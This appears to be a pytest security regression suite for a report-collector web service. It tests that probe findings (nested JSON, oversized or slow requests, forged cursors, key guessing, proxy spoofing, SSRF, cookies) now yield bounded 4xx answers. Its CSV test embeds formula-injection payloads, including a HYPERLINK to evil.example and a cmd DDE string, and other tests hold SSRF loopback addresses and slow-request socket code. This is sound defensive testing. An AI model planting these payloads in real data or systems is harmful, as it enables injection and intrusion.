"""One regression test per finding of the attacker's probe (issue 17), over HTTP against
real gunicorn servers on a real PostgreSQL: each answer is a 4xx problem or a bounded
close, never a 500 or a hang."""

from __future__ import annotations

import base64
import csv
import gzip
import io
import json
import socket
import time
import uuid
from collections.abc import Iterator
from typing import Any

import httpx
import psycopg
import pytest
from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from tests.factories import headers, new_key, report
from tools.liveserver import LiveDatabase, LiveServer, key_for, start_server

METRICS_TOKEN = "metrics-token-for-security-tests"


@pytest.fixture(scope="module")
def guarded(database: LiveDatabase, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """Short head/body timeouts, a metrics token, the attempt limits on (2 workers: the
    counts are shared through PostgreSQL, not per worker)."""
    server = start_server(database, workers=2, run_dir=tmp_path_factory.mktemp("guarded"), env={
        "HEADER_TIMEOUT": "2", "BODY_TIMEOUT": "2", "METRICS_TOKEN": METRICS_TOKEN,
        "MAX_URL_BYTES": "16384",
        "AUTH_FAILURES_PER_MINUTE": "6", "CONSOLE_LOGIN_PER_MINUTE": "4"})
    yield server
    server.stop()


@pytest.fixture(scope="module")
def g(guarded: LiveServer) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=guarded.url, timeout=30) as client:
        yield client


def port(server: LiveServer) -> int:
    return int(server.url.rsplit(":", 1)[1])


def problem(r: httpx.Response, status: int) -> dict[str, Any]:
    assert r.status_code == status, f"{r.status_code} {r.text[:300]}"
    assert r.headers["content-type"].startswith("application/problem+json"), r.headers
    body: dict[str, Any] = r.json()
    assert body["status"] == status and body["detail"]
    return body


def nested(depth: int) -> bytes:
    return b'{"a":' * depth + b"1" + b"}" * depth


# -- medium: unauthenticated 500 from nested JSON --------------------------------------

@pytest.mark.parametrize("depth", [40, 200, 300, 1000])
def test_deeply_nested_json_is_a_400_before_validation_not_a_500(g: httpx.Client, guarded: LiveServer,
                                                                  depth: int) -> None:
    for path, hdrs in (("/bff/login", {}), ("/ingest/qc", headers(role="operator"))):
        body = b'{"api_key": ' + nested(depth) + b"}" if path == "/bff/login" else \
            b'{"source": "x", "subject": "y", "observed_at": "2026-01-01T00:00:00Z", "labels": ' \
            + nested(depth) + b', "checks": []}'
        r = g.post(path, content=body, headers={"Content-Type": "application/json", **hdrs})
        detail = problem(r, 400)["detail"]
        assert "nested deeper than" in detail or "malformed JSON" in detail
    assert "Traceback" not in guarded.log() and "RecursionError" not in guarded.log()


def test_nesting_within_the_limit_is_validated_as_usual(g: httpx.Client) -> None:
    r = g.post("/bff/login", content=b'{"api_key": ' + nested(20) + b"}",
               headers={"Content-Type": "application/json"})
    problem(r, 422)


# -- medium: memory exhaustion without a key -------------------------------------------

def test_a_huge_header_is_refused_with_431_and_the_connection_closed(g: httpx.Client) -> None:
    for size in (120_000, 1_000_000):
        r = g.get("/health", headers={"X-Big": "a" * size})
        assert problem(r, 431)["detail"].startswith("request line and headers exceed")
        assert r.headers["connection"] == "close"


def test_a_64_mib_header_is_cut_off_early(guarded: LiveServer) -> None:
    with socket.create_connection(("127.0.0.1", port(guarded)), timeout=10) as s:
        s.sendall(b"GET /health HTTP/1.1\r\nHost: x\r\nX-Big: ")
        sent, refused = 0, False
        chunk = b"a" * 65536
        try:
            while sent < 64 * 1024 * 1024:
                s.sendall(chunk)
                sent += len(chunk)
        except (BrokenPipeError, ConnectionResetError):
            refused = True
        answer = b""
        try:
            answer = s.recv(300)
        except (ConnectionResetError, OSError):
            pass
        assert refused or answer.startswith(b"HTTP/1.1 431"), (sent, answer[:80])
        assert sent < 8 * 1024 * 1024, f"the server read {sent} bytes of one header"


def test_a_trickled_head_is_timed_out_with_408(guarded: LiveServer) -> None:
    with socket.create_connection(("127.0.0.1", port(guarded)), timeout=15) as s:
        started = time.monotonic()
        s.sendall(b"GET /health HTTP/1.1\r\n")
        answer = b""
        try:
            for _ in range(10):
                s.sendall(b"X-A: b\r\n")
                time.sleep(0.5)
        except (BrokenPipeError, ConnectionResetError):
            pass
        answer = s.recv(400)
        elapsed = time.monotonic() - started
    assert answer.startswith(b"HTTP/1.1 408"), answer[:80]
    assert 1.5 <= elapsed < 8, elapsed


def test_an_idle_connection_is_closed_with_408(guarded: LiveServer) -> None:
    with socket.create_connection(("127.0.0.1", port(guarded)), timeout=15) as s:
        started = time.monotonic()
        answer = s.recv(400)
    assert answer.startswith(b"HTTP/1.1 408") and time.monotonic() - started < 8


def test_a_body_shorter_than_its_content_length_gets_408_not_a_hang(guarded: LiveServer) -> None:
    with socket.create_connection(("127.0.0.1", port(guarded)), timeout=15) as s:
        started = time.monotonic()
        s.sendall(b"POST /bff/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                  b"Content-Length: 100\r\n\r\n{\"api_key\"")
        answer = s.recv(1000)
        elapsed = time.monotonic() - started
        rest = s.recv(4000)  # then the server closes the connection
        while rest:
            rest = s.recv(4000)
    assert answer.startswith(b"HTTP/1.1 408"), answer[:80]
    assert b"connection: close" in answer.lower()
    assert 1.5 <= elapsed < 8, elapsed


def test_a_slow_body_gets_408_within_the_deadline(guarded: LiveServer) -> None:
    with socket.create_connection(("127.0.0.1", port(guarded)), timeout=15) as s:
        started = time.monotonic()
        s.sendall(b"POST /bff/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                  b"Content-Length: 40\r\n\r\n")
        try:
            for _ in range(20):
                s.sendall(b" ")
                time.sleep(0.4)
        except (BrokenPipeError, ConnectionResetError):
            pass
        answer = s.recv(400)
    assert answer.startswith(b"HTTP/1.1 408"), answer[:80]
    assert time.monotonic() - started < 10


def test_url_length_header_count_and_query_parameter_count_are_limited(g: httpx.Client) -> None:
    # this server: MAX_URL_BYTES=16384 (the default, 64 KiB, is past what httpx will send)
    problem(g.get("/reports", params={"subject": "s" * 20_000}, headers=headers()), 414)
    problem(g.get("/health", headers={f"X-H{i}": "1" for i in range(120)}), 431)
    r = g.get("/reports?" + "&".join(f"label=k{i}:v" for i in range(250)), headers=headers())
    assert "query parameters" in problem(r, 400)["detail"]


@pytest.mark.parametrize("path", ["/ingest/junit%0A", "/reports/a%0Db", "/ingest/qc%7F"])
def test_a_control_character_in_the_path_is_a_400_naming_it(g: httpx.Client, path: str) -> None:
    # found by the fuzz gate: a newline stopped routing and answered an undocumented 404
    r = g.post(path + "?source=s", headers=headers(), content=b"{}")
    assert "control character U+00" in problem(r, 400)["detail"]


def test_the_largest_valid_query_is_within_the_default_limits(http: httpx.Client) -> None:
    biggest = [("subject", "%" * 200)] * 50 + [("label", f"k{i}:v") for i in range(20)]
    r = http.get("/reports", params=biggest, headers=headers())
    assert r.status_code == 200, r.text[:200]


# -- medium: /metrics names every tenant without auth ----------------------------------

def test_metrics_need_the_token_and_unknown_tenants_never_become_labels(g: httpx.Client) -> None:
    problem(g.get("/metrics"), 401)
    invented = f"tenant{uuid.uuid4().hex[:8]}"
    g.get("/reports", headers={"X-Api-Key": f"qcc_{invented}", "X-Tenant": invented})
    g.get(f"/reports/{uuid.uuid4()}", headers=headers("globex", "viewer", **{"X-Tenant": invented}))
    text = g.get("/metrics", headers={"Authorization": f"Bearer {METRICS_TOKEN}"}).text
    assert "qcc_requests_rejected_total" in text
    assert invented not in text
    assert 'qcc_auth_failures_total{kind="api_key"}' in text


def test_production_refuses_to_serve_without_a_metrics_token(
        database: LiveDatabase, tmp_path_factory: pytest.TempPathFactory) -> None:
    pem = Ed25519PrivateKey.generate().private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8,
        serialization.NoEncryption()).decode()
    production = {"COLLECTOR_ENV": "production", "SIGNING_KEY": pem,
                  "EXPORT_SIGN_SECRET": uuid.uuid4().hex + uuid.uuid4().hex,
                  "ENCRYPTION_KEY": base64.b64encode(b"p" * 32).decode()}
    with pytest.raises(RuntimeError) as failed:
        start_server(database, workers=1, run_dir=tmp_path_factory.mktemp("prod-no-token"),
                     env=production)
    assert "METRICS_TOKEN is required" in str(failed.value), str(failed.value)[-800:]
    server = start_server(database, workers=1, run_dir=tmp_path_factory.mktemp("prod-token"),
                          env={**production, "METRICS_TOKEN": METRICS_TOKEN})
    try:
        assert httpx.get(f"{server.url}/metrics").status_code == 401
    finally:
        server.stop()


# -- low: forged cursors → 500 ---------------------------------------------------------

def forge(data: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(data).encode()).rstrip(b"=").decode()


@pytest.mark.parametrize(("path", "cursor"), [
    ("/reports", forge({"s": "-received_at", "t": "2026-01-01T00:00:00+00:00", "i": 5})),
    ("/reports", forge({"s": "-received_at", "t": 5, "i": str(uuid.uuid4())})),
    ("/reports", forge(["not", "an", "object"])),
    ("/reports", forge("text")),
    ("/reports", "%%%not-base64"),
    ("/audit", forge({"a": "2026-01-01T00:00:00+00:00", "i": 2 ** 70})),
    ("/audit", forge({"a": "2026-01-01T00:00:00+00:00", "i": "5"})),
    ("/audit", forge({"a": "2026-01-01T00:00:00+00:00", "i": -1})),
    ("/notifications", forge({"a": "2026-01-01T00:00:00+00:00", "i": 7})),
    ("/notifications", forge({"a": None, "i": str(uuid.uuid4())})),
])
def test_forged_cursors_are_400(g: httpx.Client, path: str, cursor: str) -> None:
    r = g.get(path, params={"cursor": cursor}, headers=headers())
    assert "cursor" in problem(r, 400)["detail"]


# -- low: key guessing not throttled; login limit bypassed -----------------------------

def test_failed_keys_are_throttled_per_address_across_workers(g: httpx.Client) -> None:
    statuses = [g.get("/reports", headers={"X-Api-Key": f"qcc_guess_{i:04d}_xxxxxxxx"})
                for i in range(14)]
    codes = [r.status_code for r in statuses]
    assert set(codes) <= {401, 429} and 429 in codes, codes
    assert codes.count(401) <= 6, codes  # one count for both workers
    refused = next(r for r in statuses if r.status_code == 429)
    assert 1 <= int(refused.headers["retry-after"]) <= 60
    problem(refused, 429)
    # a spoofed X-Forwarded-For is not believed (no trusted proxy is configured)
    for i in range(5):
        r = g.get("/reports", headers={"X-Api-Key": f"qcc_guess_spoof_{i}",
                                       "X-Forwarded-For": f"203.0.113.{i + 1}"})
        assert r.status_code == 429, r.text
    text = g.get("/metrics", headers={"Authorization": f"Bearer {METRICS_TOKEN}"}).text
    assert 'qcc_auth_throttled_total{kind="api_key"}' in text


def test_the_session_check_is_no_unthrottled_key_oracle(g: httpx.Client) -> None:
    # GET /bff/session answers `authenticated: false` for an unknown key instead of a 401;
    # its refused keys count like any other
    codes = [g.get("/bff/session", headers={"X-Api-Key": f"qcc_oracle_{i:03d}_xxxxxxxx"})
             for i in range(14)]
    assert all(r.status_code == 200 and r.json()["authenticated"] is False
               for r in codes if r.status_code == 200)
    assert 429 in [r.status_code for r in codes], [r.status_code for r in codes]


def test_login_attempts_are_limited_per_address_and_xff_is_not_believed(g: httpx.Client) -> None:
    codes = [g.post("/bff/login", json={"api_key": "qcc_wrong_login"}).status_code for _ in range(8)]
    assert 429 in codes and codes.count(401) <= 4, codes
    for i in range(6):
        r = g.post("/bff/login", json={"api_key": "qcc_wrong_login"},
                   headers={"X-Forwarded-For": f"198.51.100.{i + 1}"})
        assert r.status_code == 429, r.text


def test_proxy_headers_are_honoured_only_from_forwarded_allow_ips(
        database: LiveDatabase, tmp_path_factory: pytest.TempPathFactory) -> None:
    server = start_server(database, workers=1, run_dir=tmp_path_factory.mktemp("proxied"), env={
        "FORWARDED_ALLOW_IPS": "127.0.0.1", "CONSOLE_LOGIN_PER_MINUTE": "2"})
    try:
        with httpx.Client(base_url=server.url, timeout=10) as client:
            def login(address: str) -> int:
                return client.post("/bff/login", json={"api_key": "qcc_wrong_proxy"},
                                   headers={"X-Forwarded-For": address}).status_code
            tag = uuid.uuid4().int % 250 + 1
            first = [login(f"192.0.2.{tag}") for _ in range(4)]
            assert first[:2] == [401, 401] and first[2:] == [429, 429], first
            # behind a trusted proxy each client address has its own count
            assert login(f"198.18.{tag}.1") == 401
            r = client.get("/health", headers={"X-Forwarded-Proto": "https"})
            assert r.headers["strict-transport-security"].startswith("max-age=")
    finally:
        server.stop()


def test_short_api_keys_are_refused_at_start(database: LiveDatabase,
                                             tmp_path_factory: pytest.TempPathFactory) -> None:
    with pytest.raises(RuntimeError) as failed:
        start_server(database, workers=1, run_dir=tmp_path_factory.mktemp("short-key"),
                     env={"API_KEYS": "acme:admin:eightchr"})
    assert "at least 16 characters" in str(failed.value)


# -- low: CSV formula injection --------------------------------------------------------

def test_csv_exports_escape_formula_cells(http: httpx.Client, worker: Any) -> None:
    marker = uuid.uuid4().hex[:8]
    dangerous = {"=": f'=HYPERLINK("https://evil.example/{marker}","x")', "+": f"+{marker}+1",
                 "-": f"-2+3+cmd|' /C calc'!A0{marker}", "@": f"@SUM(1+1){marker}",
                 "\t": f"\t=1+1{marker}", "\r": f"\r=1+1{marker}"}
    for value in dangerous.values():
        r = http.post("/ingest/qc", json=report(subject=value, run_id=value[:200]),
                      headers=headers(role="operator"))
        assert r.status_code == 201, r.text
    r = http.post("/exports", headers=headers(), json={
        "format": "csv", "since": "-1h", "filters": {"subject": list(dangerous.values())}})
    assert r.status_code == 202, r.text
    export_id = r.json()["id"]
    deadline = time.monotonic() + 60
    while True:
        state = http.get(f"/exports/{export_id}", headers=headers()).json()
        if state["status"] in ("succeeded", "failed") or time.monotonic() > deadline:
            break
        time.sleep(0.2)
    assert state["status"] == "succeeded", state
    data = gzip.decompress(http.get(state["download_url"]).content).decode()
    rows = list(csv.DictReader(io.StringIO(data, newline="")))
    assert {row["subject"][1:] for row in rows} == set(dangerous.values()), \
        [(row["subject"], row["run_id"]) for row in rows]
    for row in rows:
        for column in ("subject", "run_id"):
            cell = row[column]
            assert cell.startswith("'") and cell[1:] in dangerous.values(), (column, cell)


# -- low: a console session keeps its login-time role ----------------------------------

def test_a_session_follows_its_keys_role_at_once(http: httpx.Client, database: LiveDatabase) -> None:
    made = http.post("/admin/keys", json=new_key("role-follow", "auditor"),
                     headers=headers())
    assert made.status_code == 201, made.text
    with httpx.Client(base_url=str(http.base_url), timeout=10) as console:
        logged = console.post("/bff/login", json={"api_key": made.json()["secret"]})
        assert logged.status_code == 200, logged.text
        cookie = logged.cookies.get("__Host-qcc_session")
        assert cookie, logged.headers.get("set-cookie")
        jar = {"__Host-qcc_session": cookie}
        assert console.get("/audit", cookies=jar).status_code == 200
        with psycopg.connect(database.owner_url, autocommit=True) as conn:
            conn.execute("UPDATE api_keys SET role = 'viewer' WHERE tenant_id = 'acme' AND id = %s",
                         (made.json()["id"],))
        r = console.get("/audit", cookies=jar)
        assert r.status_code == 403 and "viewer" in r.json()["detail"], r.text
        assert console.get("/bff/session", cookies=jar).json()["role"] == "viewer"


# -- low: CR/LF in a subject breaks the alert email ------------------------------------
# (tests/security/test_alert_email.py: it needs an SMTP receiver and a dispatcher)

# -- info: IPv6 forms of loopback accepted as public -----------------------------------

@pytest.mark.parametrize("host", [
    "[::127.0.0.1]", "[::ffff:0:7f00:1]", "[64:ff9b::7f00:1]", "[2002:7f00:1::]",
    "[::ffff:127.0.0.1]", "[::ffff:10.0.0.1]", "[64:ff9b::a9fe:a9fe]", "[::1]",
])
def test_ipv6_literal_targets_are_refused(http: httpx.Client, host: str) -> None:
    # The contract now refuses IPv6 literals outright (ChannelUrl); the guard judges every
    # resolved IPv6 address by its embedded IPv4 at connect time (tests/unit).
    secret = uuid.uuid4().hex
    r = http.post("/alert-rules", headers=headers(), json={
        "name": "ssrf-v6", "channels": [{"type": "webhook", "url": f"https://{host}/hook",
                                         "secret": secret}]})
    body = problem(r, 422)
    assert body["errors"][0]["pointer"].startswith("/channels/0")
    assert secret not in r.text and host not in r.text  # a refusal does not quote the channel


# -- info: caching, cookie prefix, cookie fallback -------------------------------------

def test_tenant_reads_are_private_and_vary_on_the_credentials(http: httpx.Client) -> None:
    for path in ("/reports", "/timeline", "/audit", "/alert-rules", "/admin/keys"):
        r = http.get(path, headers=headers())
        assert r.status_code == 200, (path, r.text)
        assert r.headers["cache-control"] in ("private", "no-store"), (path, r.headers)
        assert "X-Api-Key" in r.headers["vary"] and "Cookie" in r.headers["vary"]
    assert "private" not in http.get("/health").headers.get("cache-control", "")


def test_the_session_cookie_has_the_host_prefix_when_secure(http: httpx.Client) -> None:
    r = http.post("/bff/login", json={"api_key": key_for("acme", "viewer")})
    cookie = r.headers["set-cookie"]
    assert cookie.startswith("__Host-qcc_session=") and "Secure" in cookie and "Path=/" in cookie
    assert "Domain" not in cookie and r.headers["cache-control"] == "no-store"
    # the unprefixed name is not accepted where cookies are secure
    secret = r.cookies["__Host-qcc_session"]
    problem(http.get("/reports", cookies={"qcc_session": secret}), 401)
    assert http.get("/reports", cookies={"__Host-qcc_session": secret}).status_code == 200


def test_a_refused_api_key_does_not_fall_back_to_the_cookie(http: httpx.Client) -> None:
    secret = http.post("/bff/login", json={"api_key": key_for("acme", "admin")}).cookies[
        "__Host-qcc_session"]
    jar = {"__Host-qcc_session": secret}
    assert http.get("/reports", cookies=jar).status_code == 200
    r = http.get("/reports", cookies=jar, headers={"X-Api-Key": "qcc_revoked_or_wrong_key"})
    problem(r, 401)
    assert r.headers["www-authenticate"].startswith("ApiKey")
